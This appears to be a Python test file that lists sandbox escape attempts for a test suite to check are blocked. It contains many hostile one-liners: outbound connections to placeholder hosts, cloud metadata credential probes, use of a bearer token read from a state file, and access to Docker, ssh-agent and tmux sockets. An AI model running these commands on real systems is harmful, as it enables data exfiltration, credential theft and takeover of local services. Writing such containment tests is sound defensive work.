"""The network, services of this machine, our own server, and servers on Unix sockets."""

from tests.sandbox.attack import Attack, Effect, attacks
from tests.sandbox.canaries import UnixServers

_SOCKET = "import socket as s; "

TCP = (
    "curl -sm1 http://@public@:@port@/",
    "curl -sm1 --noproxy '*' http://@public@:@port@/",
    "env -u http_proxy -u HTTP_PROXY -u ALL_PROXY curl -sm1 http://@public@:@port@/",
    "wget -qT1 -t1 -O- http://@public@:@port@/",
    "wget --no-proxy -qT1 -t1 -O- http://@public@:@port@/",
    "timeout 1 bash -c 'exec 3<>/dev/tcp/@public@/@port@; echo evil >&3'",
    f"python3 -c \"{_SOCKET}s.create_connection(('@public@', @port@), 1)\"",
    "timeout 1 perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"@public@:@port@\")'",
    "timeout 2 node -e \"require('net').connect(@port@, '@public@').on('error', () => 0).setTimeout(300, () => process.exit())\"",
    "timeout 1 git ls-remote http://@public@:@port@/x.git",
    "timeout 1 git ls-remote git://@public@:@port@/x.git",
    "timeout 1 ssh -o StrictHostKeyChecking=no -o BatchMode=yes @public@ id",
    "timeout 1 openssl s_client -connect @public@:443 </dev/null",
    "timeout 6 pip download --disable-pip-version-check --retries 0 --trusted-host @public@ -i http://@public@:@port@/ evil",
    "timeout 6 npm view --fetch-retries 0 --registry http://@public@:@port@/ evil",
    "curl -sm1 -x http://@public@:@port@ http://example.test/",
    "curl -sm1 --socks5-hostname @public@:@port@ http://example.test/",
    f"python3 -c \"{_SOCKET}c = s.socket(); c.settimeout(1); c.bind(('0.0.0.0', 0)); c.connect(('@public@', 25))\"",
    f"python3 -c \"{_SOCKET}c = s.socket(s.AF_INET, s.SOCK_STREAM | s.SOCK_NONBLOCK); c.connect_ex(('@public@', @port@))\"",
    f"python3 -c \"{_SOCKET}c = s.socket(); c.settimeout(1); c.sendto(b'x', 0x20000000, ('@public@', @port@))\"",
)

DATAGRAMS = (
    "echo evil > /dev/udp/@public@/@udp@",
    f"python3 -c \"{_SOCKET}s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b'evil', ('@public@', @udp@))\"",
    f"python3 -c \"{_SOCKET}s.socket(s.AF_INET6, s.SOCK_DGRAM).sendto(b'evil', ('@public6@', @udp@))\"",
    f"python3 -c \"{_SOCKET}s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b'evil', ('127.0.0.1', 53))\"",
    f"python3 -c \"{_SOCKET}s.socket(s.AF_INET, s.SOCK_RAW, s.IPPROTO_ICMP).sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('@public@', 0))\"",
    f"python3 -c \"{_SOCKET}s.socket(s.AF_INET, s.SOCK_RAW, s.IPPROTO_RAW).sendto(b'E' + b'\\0' * 40, ('@public@', 0))\"",
    f"python3 -c \"{_SOCKET}p = s.socket(s.AF_PACKET, s.SOCK_RAW); p.bind(('lo', 2048)); p.send(b'\\0' * 60)\"",
    'perl -MSocket -e \'socket(S, PF_INET, SOCK_DGRAM, 0); send(S, "x", 0, sockaddr_in(@udp@, inet_aton("@public@")))\'',
    f'python3 -c "{_SOCKET}c = s.socket(s.AF_INET, s.SOCK_DGRAM); c.setsockopt(s.SOL_SOCKET, s.SO_BROADCAST, 1); '
    "c.sendto(b'x', ('127.255.255.255', @udp@))\"",
    f"python3 -c \"{_SOCKET}c = s.socket(s.AF_INET, s.SOCK_DGRAM); c.connect(('@public@', @udp@)); c.sendmsg([b'x'])\"",
    "printf '\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\0\\0\\1\\0\\1' > /dev/udp/127.0.0.1/53",
    "timeout 2 node -e \"d = require('dgram').createSocket('udp4'); d.send('x', @udp@, '@public@', () => d.close())\"",
)

HOST_SERVICES = (
    "curl -sm1 http://127.0.0.1:@port@/",
    "curl -sm1 http://localhost:@port@/",
    "curl -sm1 --noproxy '*' http://localhost:@port@/",
    "curl -g -sm1 --noproxy '*' 'http://[::1]:@port@/'",
    "curl -sm1 --noproxy '*' http://0.0.0.0:@port@/",
    "curl -sm1 --noproxy '*' http://127.1.2.3:@port@/",
    "curl -sm1 http://2130706433:@port@/",
    "curl -g -sm1 'http://[::ffff:127.0.0.1]:@port@/'",
    "timeout 1 bash -c 'echo PING > /dev/tcp/127.0.0.1/6379'",
    "timeout 1 psql -h 127.0.0.1 -p 5432 -c 'select 1'",
    f"python3 -c \"{_SOCKET}s.create_connection(('127.0.0.1', 25), 1)\"",
    f"python3 -c \"{_SOCKET}s.create_connection(('::1', 5432), 1)\"",
    "timeout 1 ssh -o StrictHostKeyChecking=no -o BatchMode=yes localhost id",
    "curl -sm1 http://0x7f000001:@port@/",
    "curl -sm1 http://$(hostname):@port@/ || curl -sm1 http://127.0.1.1:@port@/",
)

METADATA = (
    "curl -sm1 http://@metadata@/latest/meta-data/",
    "curl -sm1 --noproxy '*' http://@metadata@/latest/meta-data/",
    "wget --no-proxy -qT1 -t1 -O- http://@metadata@/",
    "curl -sm1 -H 'Metadata-Flavor: Google' http://@metadata@/computeMetadata/v1/",
    "curl -sm1 -X PUT http://@metadata@/latest/api/token",
    "curl -sm1 http://2852039166/",
    "curl -sm1 http://0xa9fea9fe/",
    "curl -g -sm1 'http://[::ffff:169.254.169.254]/'",
    "timeout 1 bash -c 'echo > /dev/tcp/@metadata@/80'",
    "curl -g -sm1 --noproxy '*' 'http://[@public6@]:@port@/'",
    "curl -g -sm1 'http://[@public6@]:@port@/'",
    f"python3 -c \"{_SOCKET}s.create_connection(('@public6@', @port@), 1)\"",
    f"python3 -c \"{_SOCKET}s.create_connection(('@metadata@', 80), 1)\"",
    "timeout 2 node -e \"require('http').get('http://@metadata@/').on('error', () => 0).setTimeout(300, () => process.exit())\"",
)

OUR_SERVER = (
    "curl -sm1 http://127.0.0.1:@server@/api/sessions",
    "curl -sm1 --noproxy '*' http://127.0.0.1:@server@/api/sessions",
    "curl -sm1 --noproxy '*' -H \"Authorization: Bearer $(cat @ours@/state/token)\" http://127.0.0.1:@server@/api/sessions",
    "curl -sm1 --noproxy '*' -d '{\"repo_path\": \"/\"}' http://localhost:@server@/api/sessions",
    "curl -g -sm1 --noproxy '*' 'http://[::1]:@server@/'",
    "timeout 1 bash -c 'printf \"GET / HTTP/1.0\\r\\n\\r\\n\" > /dev/tcp/127.0.0.1/@server@'",
    f"python3 -c \"{_SOCKET}s.create_connection(('127.0.0.1', @server@), 1)\"",
    "python3 -c \"import urllib.request as u; u.urlopen('http://127.0.0.1:@server@/', timeout=1)\"",
    "wget --no-proxy -qT1 -t1 -O- http://127.0.0.1:@server@/",
    "curl -sm1 --noproxy '*' -H 'Host: localhost' http://@public@:@server@/",
    'for p in 4982 4983 4984; do timeout 1 bash -c "echo > /dev/tcp/127.0.0.1/$p"; done',
    "curl -sm1 --noproxy '*' --interface lo http://127.0.0.1:@server@/",
)


def _connect(address: str) -> str:
    return f"python3 -c \"{_SOCKET}s.socket(s.AF_UNIX).connect('{address}')\""


UNIX_SOCKETS = (
    *(_connect(path) for path in UnixServers.PATHS),
    "curl -sm1 --unix-socket /run/docker.sock http://x/containers/json",
    "timeout 1 ssh-add -l",
    "timeout 1 docker ps",
    "timeout 1 dbus-send --session --dest=org.x / org.x.Y",
    "timeout 1 tmux -S /tmp/tmux-0/default new-window 'touch @out@/new.txt'",
    "timeout 1 psql -h @out@ -c 'select 1'; " + _connect("@out@/server.sock"),
    "ln -s @out@/server.sock l; " + _connect("l"),
)

ABSTRACT_SOCKETS = (
    *(_connect(f"\\0{name}") for name in UnixServers.ABSTRACT),
    f"python3 -c \"{_SOCKET}s.socket(s.AF_UNIX, s.SOCK_DGRAM).sendto(b'x', '\\0log')\"",
    "timeout 1 dbus-send --bus=unix:abstract=dbus-session --dest=org.x / org.x.Y",
    "curl -sm1 --abstract-unix-socket canary http://x/",
    'perl -MSocket -e \'socket(S, PF_UNIX, SOCK_STREAM, 0); connect(S, pack("S a*", 1, "\\0canary"))\'',
)

ATTACKS: list[Attack] = [
    *attacks("network-streams", Effect.NETWORK, TCP),
    *attacks("network-datagrams", Effect.NETWORK, DATAGRAMS),
    *attacks("host-services", Effect.NETWORK, HOST_SERVICES),
    *attacks("metadata-and-ipv6", Effect.NETWORK, METADATA),
    *attacks("our-server", Effect.NETWORK, OUR_SERVER),
    *attacks("unix-sockets", Effect.SOCKET, UNIX_SOCKETS),
    *attacks("abstract-sockets", Effect.SOCKET, ABSTRACT_SOCKETS),
]
